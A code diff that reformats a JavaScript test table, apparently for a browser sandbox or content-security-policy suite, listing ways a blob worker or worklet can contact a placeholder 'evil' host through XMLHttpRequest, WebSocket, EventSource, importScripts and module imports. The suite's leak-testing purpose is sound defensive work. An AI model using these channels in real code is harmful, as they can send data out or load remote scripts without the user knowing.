@@ -3,9 +3,12 @@ export default {
   "a blob: worker": ({ blob, sends }) => void new Worker(blob(sends, "text/javascript")),
   "a blob: worker's request": ({ blob, evil }) =>
     void new Worker(blob(`const x = new XMLHttpRequest(); x.open("GET", "${evil}", false); x.send()`, "text/javascript")),
-  "a blob: worker's socket": ({ blob, socket }) => void new Worker(blob(`new WebSocket("${socket}")`, "text/javascript")),
-  "a blob: worker's event source": ({ blob, evil }) => void new Worker(blob(`new EventSource("${evil}")`, "text/javascript")),
-  "a blob: worker's script": ({ blob, evil }) => void new Worker(blob(`importScripts("${evil}/x.js")`, "text/javascript")),
+  "a blob: worker's socket": ({ blob, socket }) =>
+    void new Worker(blob(`new WebSocket("${socket}")`, "text/javascript")),
+  "a blob: worker's event source": ({ blob, evil }) =>
+    void new Worker(blob(`new EventSource("${evil}")`, "text/javascript")),
+  "a blob: worker's script": ({ blob, evil }) =>
+    void new Worker(blob(`importScripts("${evil}/x.js")`, "text/javascript")),
   "a blob: worker's module": ({ blob, evil }) =>
     void new Worker(blob(`import "${evil}/x.js"`, "text/javascript"), { type: "module" }),
   "a blob: worker's import": ({ blob, evil }) => void new Worker(blob(`import("${evil}/x.js")`, "text/javascript")),
@@ -43,5 +46,6 @@ export default {
   "an audio worklet's import": ({ blob, evil }) =>
     new AudioContext().audioWorklet.addModule(blob(`import "${evil}/x.js"`, "text/javascript")),
   "a paint worklet's module": ({ evil }) => CSS.paintWorklet.addModule(evil + "/x.js"),
-  "a paint worklet's import": ({ blob, evil }) => CSS.paintWorklet.addModule(blob(`import "${evil}/x.js"`, "text/javascript")),
+  "a paint worklet's import": ({ blob, evil }) =>
+    CSS.paintWorklet.addModule(blob(`import "${evil}/x.js"`, "text/javascript")),
 };
